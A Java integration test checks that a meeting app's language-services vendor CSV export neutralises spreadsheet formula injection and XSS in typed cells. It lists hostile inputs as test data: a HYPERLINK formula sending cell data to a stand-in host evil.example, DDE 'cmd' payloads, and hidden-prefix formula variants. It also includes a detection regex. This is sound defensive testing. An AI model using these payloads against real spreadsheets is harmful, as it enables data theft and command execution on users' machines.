package roundtable.languageservices.ui;

import static org.assertj.core.api.Assertions.assertThat;

import com.vaadin.browserless.SpringBrowserlessTest;
import com.vaadin.flow.component.html.Div;
import java.io.StringReader;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.security.test.context.support.WithAnonymousUser;
import roundtable.IntegrationTest;
import roundtable.attendance.InterpretationMode;
import roundtable.attendance.MeetingFacts;
import roundtable.attendance.RequestKind;
import roundtable.languageservices.VendorRow;
import roundtable.meetings.MeetingFormat;
import roundtable.minutes.XssPayloads;

/**
 * The language-services vendor's spreadsheet with hostile text in every cell a person typed
 * (body name, meeting title, address, room, join link, dial-in, interpreter names): each comes back
 * as the same text, one cell each, and none is a formula a spreadsheet would run.
 */
@IntegrationTest
@WithAnonymousUser
class VendorCsvXssTest extends SpringBrowserlessTest {

    /** Formula shapes, with the spaces and line breaks a spreadsheet skips before deciding, and XSS shapes. */
    static List<String> hostile() {
        List<String> values = new ArrayList<>(List.of(
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+9)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\u00a0=1+1",
                "\uFF1D1+1",
                "a,\"b\"\r\n=1+1"));
        values.addAll(XssPayloads.shapes(20, 200));
        return values;
    }

    /** One spreadsheet with a row per hostile value: a browserless UI per value would cost more than the check. */
    @Test
    void everyTypedCellComesBackAsTheSameTextAndNoneIsAFormula() throws Exception {
        List<String> values = hostile();
        List<VendorRow> rows = new ArrayList<>();
        for (String value : values) {
            MeetingFacts meeting = new MeetingFacts(
                    1,
                    value,
                    value,
                    LocalDateTime.of(2026, 12, 1, 18, 0),
                    "America/Denver",
                    90,
                    MeetingFormat.HYBRID,
                    value,
                    value,
                    "https://roundtable.example/meetings/1",
                    value,
                    value,
                    List.of("es"));
            rows.add(new VendorRow(
                    meeting,
                    value,
                    value,
                    RequestKind.INTERPRETATION,
                    "es",
                    InterpretationMode.IN_PERSON,
                    2,
                    1,
                    List.of(value)));
        }
        String csv = new VendorCsv(new Div(), Locale.ENGLISH).write(rows);

        List<CSVRecord> records;
        try (CSVParser parser = CSVParser.builder()
                .setReader(new StringReader(csv))
                .setFormat(CSVFormat.DEFAULT)
                .get()) {
            records = parser.getRecords();
        }
        assertThat(records)
                .as("a header and a row for each value, whatever the text")
                .hasSize(values.size() + 1);
        CSVRecord header = records.getFirst();
        for (int i = 0; i < values.size(); i++) {
            String value = values.get(i);
            CSVRecord cells = records.get(i + 1);
            assertThat(cells.size()).as(value).isEqualTo(header.size());
            for (int column : new int[] {4, 5, 7, 8, 9, 10, 16}) {
                String cell = cells.get(column);
                String where = header.get(column) + " of " + value;
                assertThat(cell)
                        .as(where + " is not a formula")
                        .doesNotMatch("(?s)^[\\s\\p{Z}]*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20].*")
                        .doesNotMatch("(?s)^[\\t\\r\\n].*");
                assertThat(cell).as(where + " keeps the text").isIn(value, "'" + value);
            }
        }
    }
}
